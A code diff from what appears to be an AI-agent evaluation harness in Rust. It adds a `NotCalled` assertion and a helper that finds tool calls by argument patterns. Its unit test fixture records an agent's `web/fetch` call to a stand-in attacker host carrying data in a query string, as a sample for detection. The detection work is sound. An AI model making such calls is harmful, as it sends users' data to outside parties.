@@ -75,6 +75,20 @@ struct Verdict {
     reasoning: String,
 }
 
+/// The first call of `tool` in `o` whose arguments match every matcher of `args`.
+fn call_of<'o>(
+    o: &'o Outcome,
+    tool: &str,
+    args: &serde_json::Map<String, serde_json::Value>,
+) -> Option<&'o (String, serde_json::Value)> {
+    o.tool_calls.iter().find(|(name, called)| {
+        name == tool
+            && args
+                .iter()
+                .all(|(k, m)| called.get(k).is_some_and(|v| matches(m, v)))
+    })
+}
+
 /// Where a judge is asked: the models, the one a judge assertion without its own asks, and
 /// what its calls cost.
 pub struct Judges<'a> {
@@ -133,13 +147,18 @@ pub async fn check(a: &Assertion, input: &str, o: &Outcome, judges: &Judges<'_>)
                 (_, Err(e)) => held(kind, false, format!("json_schema: {e}")),
             }
         }
+        Assertion::NotCalled { tool, args } => {
+            let found = call_of(o, tool, args);
+            held(
+                kind,
+                found.is_none(),
+                found.map_or_else(String::new, |(name, called)| {
+                    format!("called {name} with {called}")
+                }),
+            )
+        }
         Assertion::ToolCalled { tool, args } => {
-            let found = o.tool_calls.iter().any(|(name, called)| {
-                name == tool
-                    && args
-                        .iter()
-                        .all(|(k, m)| called.get(k).is_some_and(|v| matches(m, v)))
-            });
+            let found = call_of(o, tool, args).is_some();
             let called: Vec<&str> = o.tool_calls.iter().map(|(n, _)| n.as_str()).collect();
             held(
                 kind,
@@ -258,5 +277,44 @@ mod tests {
         assert!(!matches(&serde_json::json!("git pull*"), &v));
         assert!(matches(&serde_json::json!(3), &serde_json::json!(3)));
         assert!(!matches(&serde_json::json!(3), &serde_json::json!("3")));
+    }
+
+    #[test]
+    fn a_call_is_found_by_tool_and_argument_matchers() {
+        let o = Outcome {
+            tool_calls: vec![
+                (
+                    "files/read".into(),
+                    serde_json::json!({"path": "report.md"}),
+                ),
+                (
+                    "web/fetch".into(),
+                    serde_json::json!({"url": "http://attacker.example/c?d=1"}),
+                ),
+            ],
+            ..Default::default()
+        };
+        let args = |v: serde_json::Value| v.as_object().cloned().unwrap_or_default();
+        assert!(
+            call_of(
+                &o,
+                "web/fetch",
+                &args(serde_json::json!({"url": "*attacker*"}))
+            )
+            .is_some()
+        );
+        assert!(
+            call_of(
+                &o,
+                "web/fetch",
+                &args(serde_json::json!({"url": "*docs.rs*"}))
+            )
+            .is_none()
+        );
+        assert!(call_of(&o, "shell/run", &serde_json::Map::new()).is_none());
+        assert_eq!(
+            call_of(&o, "files/read", &serde_json::Map::new()).map(|c| c.0.as_str()),
+            Some("files/read")
+        );
     }
 }
